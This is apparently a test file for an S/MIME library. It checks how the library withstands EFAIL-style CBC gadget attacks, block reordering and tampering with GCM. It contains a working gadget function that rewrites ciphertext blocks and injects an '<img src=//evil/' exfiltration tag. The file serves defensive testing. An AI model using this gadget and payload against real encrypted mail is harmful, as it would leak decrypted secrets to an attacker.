import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Bytes, concat, utf8 } from "../../src/smime/bytes.ts";
import { createEnvelopedData } from "../../src/smime/cms/enveloped-data.ts";
import { People } from "../smime/people.ts";
import { opaqueLetter } from "./carrier.ts";

/** EFAIL's CBC gadgets: whoever knows one block of plaintext can write blocks of his own into the message (Poddebniak et al., USENIX Security 2018; CVE-2017-17689). */
const people = new People();
afterAll(() => people.remove());

const SECRET = "The vault's number is 4711.";
const PLAIN = `Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello Bob, ${SECRET} Keep it to yourself.</p>\r\n`;
const BLOCK = 16;

let cbc: Bytes;
let gcm: Bytes;
beforeAll(async () => {
  const recipients = [people.bob.certificate];
  cbc = await createEnvelopedData({ content: utf8(PLAIN), recipients, cipher: "aes-256-cbc" });
  gcm = await createEnvelopedData({ content: utf8(PLAIN), recipients, cipher: "aes-256-gcm" });
});

/** The ciphertext is the end of the object, behind its initialization vector. */
function cutApart(cms: Bytes): { readonly frame: Bytes; readonly ciphertext: Bytes } {
  const length = BLOCK * (Math.floor(PLAIN.length / BLOCK) + 1);
  return { frame: cms.subarray(0, cms.length - length), ciphertext: cms.subarray(cms.length - length) };
}

const at = (octets: Bytes, block: number): Bytes => octets.slice(block * BLOCK, (block + 1) * BLOCK);

/** Changes block `i` so that block `i + 1`, whose plaintext is known, decrypts to `wanted`. */
function gadget(ciphertext: Bytes, block: number, wanted: string): Bytes {
  const known = utf8(PLAIN).subarray((block + 1) * BLOCK, (block + 2) * BLOCK);
  const want = utf8(wanted.padEnd(BLOCK));
  const out = ciphertext.slice();
  for (let i = 0; i < BLOCK; i++) {
    const place = block * BLOCK + i;
    out[place] = (out[place] ?? 0) ^ (known[i] ?? 0) ^ (want[i] ?? 0);
  }
  return out;
}

describe("a CBC gadget", () => {
  it("changes what is shown, and Waxwing says that nobody vouches for it", async () => {
    const { frame, ciphertext } = cutApart(cbc);
    const { report, content, learned } = await people.open(
      opaqueLetter(concat(frame, gadget(ciphertext, 3, "<img src=//evil/"))),
    );
    expect(report.encryption).toMatchObject({ kind: "decrypted", authenticated: false });
    expect(report.signature.kind).toBe("unsigned");
    expect(report.remarks).toContain("encryption/unauthenticated");
    // The attack is real: the attacker's markup stands in what was decrypted. No request leaves for it (see the viewer).
    expect(content.html ?? content.text).toContain("<img src=//evil/");
    expect(learned).toBeNull();
  });

  it("breaks a signature beneath the encryption", async () => {
    const signed = await people.sign(PLAIN);
    const cms = await createEnvelopedData({ content: signed, recipients: [people.bob.certificate] });
    const changed = cms.slice();
    const place = cms.length - BLOCK * 30;
    changed[place] = (changed[place] ?? 0) ^ 1;
    const { report } = await people.open(opaqueLetter(changed));
    expect(report.encryption.kind).toBe("decrypted");
    expect(report.signature.kind).not.toBe("verified");
  });

  it("is nothing against authenticated encryption", async () => {
    for (let place = gcm.length - PLAIN.length - 16; place < gcm.length; place += 7) {
      const changed = gcm.slice();
      changed[place] = (changed[place] ?? 0) ^ 1;
      const { report, content } = await people.open(opaqueLetter(changed));
      expect(report.encryption).toEqual({ kind: "failed", code: "cms/decryption-failed" });
      expect(content.text).toBe("");
    }
  });
});

describe("blocks", () => {
  it.each<[string, (ciphertext: Bytes) => Bytes]>([
    ["repeated", (ciphertext) => concat(ciphertext, ciphertext)],
    ["cut off at the end", (ciphertext) => ciphertext.subarray(0, -BLOCK)],
    ["exchanged", (c) => concat(at(c, 0), at(c, 2), at(c, 1), c.subarray(3 * BLOCK))],
  ])("%s never make the message a verified one", async (_, change) => {
    const { frame, ciphertext } = cutApart(cbc);
    const { report } = await people.open(opaqueLetter(concat(frame, change(ciphertext))));
    expect(report.signature.kind).toBe("unsigned");
    if (report.encryption.kind === "decrypted") expect(report.encryption.authenticated).toBe(false);
  });
});
